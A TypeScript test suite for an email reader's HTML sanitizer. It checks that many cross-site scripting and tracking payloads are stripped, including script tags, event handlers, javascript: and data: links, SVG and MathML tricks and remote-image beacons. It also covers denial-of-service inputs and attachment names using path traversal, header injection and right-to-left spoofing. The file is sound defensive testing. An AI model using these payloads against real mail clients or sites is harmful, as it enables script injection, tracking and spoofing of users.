import assert from 'node:assert/strict'
import { test } from 'node:test'
import { readBody, readHead } from './read-mail.ts'
import { safeHtml, wordsOf } from './safe-html.ts'

const head = ['From: Eero Salo <eero@kivela.example>', 'To: myynti@valo.example', 'Message-ID: <1@kivela.example>']
const mail = (lines: string[], body: string | Buffer = '') =>
  Buffer.concat([Buffer.from(`${[...head, ...lines].join('\r\n')}\r\n\r\n`), Buffer.from(body)])
const html = (markup: string) => mail(['Content-Type: text/html; charset=utf-8'], markup)

// Of what is left only these may stand: anything that is fetched, run, styled, posted, framed or led away by is gone.
const allowed =
  /^(<\/?(p|div|span|b|strong|i|em|u|s|sub|sup|code|pre|blockquote|h[1-6]|ul|ol|li|a|table|thead|tbody|tr|td|th)>|<(br|hr) ?\/?>|<a href="(https?:|mailto:|tel:)[^"<>]*">|[^<>])*$/

const nasty: Record<string, string> = {
  'a picture that tells that it was opened': '<img src="https://t.example/p.gif?who=1" width=1 height=1>',
  'pictures by other ways':
    '<picture><source srcset="https://t.example/a"></picture><input type=image src=//t.example><body background="//t.example/b"><td background="//t.example">x</td>',
  'a style that fetches': '<style>@import url(//t.example/x.css); *{background:url(//t.example)}</style><p>x</p>',
  'a style in an attribute': '<p style="background-image:url(https://t.example/a);position:fixed;inset:0">x</p>',
  'a link to a style sheet': '<link rel="stylesheet" href="//t.example/a.css"><link rel=dns-prefetch href=//t.example>',
  'a script': '<script>alert(1)</script><scr<script>ipt>alert(2)</scr</script>ipt>',
  'a drawing that runs': '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'a drawing that hides a style': '<svg><style><img src=x onerror=alert(1)></style></svg>',
  'markup in mathematics':
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'a base': '<base href="https://t.example/"><a href="login">x</a>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://t.example"><p>x</p>',
  'a form': '<form action="https://t.example"><input name=password><button>Kirjaudu</button></form>',
  'a frame':
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="//t.example"></object><embed src=//t.example>',
  'a scheme that runs':
    '<a href="javascript:alert(1)">1</a><a href="JaVaScRiPt:alert(1)">2</a><a href=" javascript:alert(1)">3</a><a href="java\nscript:alert(1)">4</a><a href="&#106;avascript:alert(1)">5</a><a href="vbscript:x">6</a>',
  'a page in an address':
    '<a href="data:text/html,<script>alert(1)</script>">x</a><a href="blob:https://t.example/1">y</a>',
  'a file of one’s own machine': '<a href="file:///etc/passwd">x</a><a href="\\\\t.example\\share">y</a>',
  'no scheme at all': '<a href="//t.example">x</a><a href="/api/v1/people">y</a><a href="?q">z</a>',
  handlers: '<p onclick=alert(1) onmouseover="alert(1)">x</p><details open ontoggle=alert(1)>y</details>',
  'names that cover those of the page': '<p id="root" name="body" class="state good">x</p><a name=location>y</a>',
  'a comment that ends early': '<!--><img src=x onerror=alert(1)>--><!--[if mso]><img src="//t.example"><![endif]-->',
  'a text that is no text':
    '<textarea></textarea><img src=x onerror=alert(1)></textarea><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'a template':
    '<template><img src=x onerror=alert(1)></template><slot></slot><custom-element onfocus=alert(1)>x</custom-element>',
  'torn markup': '<p <b <i onclick=alert(1)// <a href=">" onmouseover=alert(1)>x',
  'zero bytes within': '<scr\u0000ipt>alert(1)</scr\u0000ipt><im\u0000g src=x onerror=alert(1)>',
  'sounds and films': '<audio src=//t.example autoplay><video poster=//t.example><track src=//t.example></video>',
}

for (const [what, markup] of Object.entries(nasty))
  test(`of ${what} nothing is left that a browser would act upon`, async () => {
    const { html: left } = await readBody(html(markup))
    assert.match(left ?? '', allowed, left ?? '')
    assert.doesNotMatch(left ?? '', /javascript:|data:text|onerror|onload|t\.example\/(a|b|p)/i)
    assert.equal(safeHtml(left ?? ''), left ?? '', 'washed twice it is the same')
  })

// A mail is read by the one reader that all mailboxes share: what takes it long keeps everybody's mail waiting.
const heavy: Record<string, () => Buffer> = {
  'two million brackets': () => html('<'.repeat(2_000_000)),
  'two million of nested blocks': () => html('<div>'.repeat(400_000)),
  'an attribute without end': () => html(`<a href="${'x'.repeat(2_000_000)}`),
  'a hundred thousand links': () => html('<a href="https://x.example/">x</a>'.repeat(60_000)),
  entities: () => html('&amp;&lt;&#x3c;'.repeat(130_000)),
  'tables in tables': () => html('<table><tr><td>'.repeat(50_000)),
  comments: () => html('<!-- -'.repeat(300_000)),
  'two million brackets in an address': () => Buffer.from(`From: ${'('.repeat(1_900_000)}a@b.example\r\n\r\nx`),
  'a hundred thousand encoded words': () => mail([`Subject: ${'=?utf-8?Q?=C3=A4?= '.repeat(90_000)}`], 'x'),
  'parts without number': () =>
    mail(['Content-Type: multipart/mixed; boundary=B'], '--B\r\nContent-Type: text/plain\r\n\r\nx\r\n'.repeat(40_000)),
  'parts within parts': () =>
    mail(
      ['Content-Type: multipart/mixed; boundary=B0'],
      Array.from(
        { length: 20_000 },
        (_, at) => `--B${at}\r\nContent-Type: multipart/mixed; boundary=B${at + 1}\r\n\r\n`,
      ).join(''),
    ),
  'letters within letters': () =>
    mail(['Content-Type: message/rfc822'], 'Content-Type: message/rfc822\r\n\r\n'.repeat(50_000)),
  'references without number': () => mail([`References: ${'<a@b.example> '.repeat(130_000)}`], 'x'),
  'a line of two million letters': () => mail(['Content-Type: text/plain; charset=utf-8'], 'ä'.repeat(1_000_000)),
}

for (const [what, raw] of Object.entries(heavy))
  test(`a mail of ${what} is read in moments`, async () => {
    const begin = process.cpuUsage()
    const said = raw()
    const [first, body] = [await readHead(said), await readBody(said)]
    const { user } = process.cpuUsage(begin)
    assert.ok(user < 4_000_000, `${Math.round(user / 1000)} ms`)
    assert.ok(first.subject.length <= 400 && first.references.length <= 50 && first.correspondents.length <= 200)
    assert.ok(body.text.length <= 200_000 && (body.html ?? '').length <= 500_000 && body.attachments.length <= 50)
  })

const charsets: [string, Buffer | string, RegExp][] = [
  ['utf-8', Buffer.from('Hyvää päivää', 'latin1'), /Hyvää päivää/],
  ['x-tuntematon', 'Hei', /Hei/],
  ['utf-7', '+ADw-script+AD4-alert(1)', /.*/],
  ['utf-16', Buffer.from('Hei', 'utf16le'), /.*/],
  ['iso-2022-jp', '\u001b(B<script>', /.*/],
  ['"; x=', 'Hei', /Hei/],
]
for (const [charset, words, expected] of charsets)
  test(`a mail that says ${charset} is read, and says nothing that is not text`, async () => {
    for (const type of ['plain', 'html']) {
      const { text, html: left } = await readBody(mail([`Content-Type: text/${type}; charset=${charset}`], words))
      assert.match(text, expected)
      assert.match(left ?? '', allowed)
      assert.ok(!text.includes('\u0000'))
    }
  })

test('the name of a file leads nowhere and hides nothing', async () => {
  const names = [
    '../../etc/passwd',
    'lasku.pdf\u202Efdp.exe',
    'a\r\nContent-Type: text/html',
    `${'x'.repeat(5000)}.pdf`,
    'con\u0000.pdf',
  ]
  for (const name of names) {
    const file = `--B\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\nPDF\r\n--B--`
    const { attachments } = await readBody(mail(['Content-Type: multipart/mixed; boundary=B'], file))
    for (const one of attachments) {
      assert.ok(one.name.length <= 200, name)
      assert.doesNotMatch(one.name, /[\\/\p{Cc}\u202a-\u202e\u2066-\u2069]/u, name)
    }
  }
})

test('words of markup alone are words: nothing of its scripts and styles', () => {
  for (const markup of [
    '<style>p{}</style><p>x</p>',
    '<script>var a</script><p>x</p>',
    '<title>otsikko</title><p>x</p>',
  ])
    assert.equal(wordsOf(markup).replace('otsikko', '').trim(), 'x', markup)
})
